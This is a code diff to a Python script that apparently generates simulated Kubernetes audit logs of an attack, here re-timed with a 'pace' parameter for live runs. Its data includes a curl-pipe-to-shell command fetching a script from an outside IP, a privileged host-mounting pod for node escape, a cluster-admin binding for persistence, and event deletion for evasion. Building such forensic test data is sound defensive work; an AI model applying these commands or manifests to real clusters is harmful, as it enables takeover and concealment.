@@ -95,7 +95,9 @@ OFFLINE_COMMAND = ["sh", "-c", "curl -s http://203.0.113.77/x.sh | sh"]
 IMAGE = "registry.example.com/shop/payments:1.4.2"
 
 
-def story(command: list[str] | None = None, image: str = IMAGE) -> list[dict[str, object]]:
+def story(command: list[str] | None = None, image: str = IMAGE, pace: float = 60.0) -> list[dict[str, object]]:
+    """The events in order; ``pace`` is the gap in seconds between the steps after the exec
+    (the live run uses a short one, so that the whole story is over before acquisition)."""
     global _n
     _n = 0
     command = command or OFFLINE_COMMAND
@@ -119,19 +121,19 @@ def story(command: list[str] | None = None, image: str = IMAGE) -> list[dict[str
               {"resource": "pods", "namespace": "shop", "name": POD, "subresource": "exec", "apiVersion": "v1"},
               code=101, stage="ResponseStarted"),
         # A privileged pod with the node's filesystem mounted: an escape to the node.
-        event(180, "create", "/api/v1/namespaces/shop/pods", {"resource": "pods", "namespace": "shop", "name": "debug-tools", "apiVersion": "v1"}, code=201,
+        event(EXEC_AT + pace, "create", "/api/v1/namespaces/shop/pods", {"resource": "pods", "namespace": "shop", "name": "debug-tools", "apiVersion": "v1"}, code=201,
               request={"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "debug-tools", "namespace": "shop"},
                        "spec": {"hostPID": True, "hostNetwork": True,
                                 "containers": [{"name": "x", "image": "docker.io/library/alpine:3.20", "command": ["sleep", "infinity"],
                                                 "securityContext": {"privileged": True}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                                 "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}),
         # Persistence: bind cluster-admin to the stolen service account.
-        event(240, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", {"resource": "clusterrolebindings", "name": "web-admin", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}, code=201,
+        event(EXEC_AT + 2 * pace, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", {"resource": "clusterrolebindings", "name": "web-admin", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}, code=201,
               request={"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "web-admin"},
                        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                        "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}]}),
         # Defence evasion: delete the events that describe the new pod.
-        event(300, "delete", "/api/v1/namespaces/shop/events/debug-tools.17f1a2b3c4d5e6f7", {"resource": "events", "namespace": "shop", "name": "debug-tools.17f1a2b3c4d5e6f7", "apiVersion": "v1"}),
+        event(EXEC_AT + 3 * pace, "delete", "/api/v1/namespaces/shop/events/debug-tools.17f1a2b3c4d5e6f7", {"resource": "events", "namespace": "shop", "name": "debug-tools.17f1a2b3c4d5e6f7", "apiVersion": "v1"}),
     ]
     return evs
 
@@ -164,13 +166,17 @@ def write(out_dir: Path, events: list[dict[str, object]]) -> list[Path]:
     return [eks, native]
 
 
+LIVE_PACE = 0.5
+
+
 def live_logs(out_dir: Path, exec_time: datetime, command: list[str], image: str = IMAGE) -> list[Path]:
-    """The story re-timed so that its exec is at ``exec_time`` with ``command``."""
+    """The story re-timed so that its exec is at ``exec_time`` with ``command``, and the steps
+    after it follow every ``LIVE_PACE`` seconds."""
     global T0
     saved = T0
     T0 = exec_time - timedelta(seconds=EXEC_AT)
     try:
-        return write(out_dir, story(command, image))
+        return write(out_dir, story(command, image, LIVE_PACE))
     finally:
         T0 = saved
 
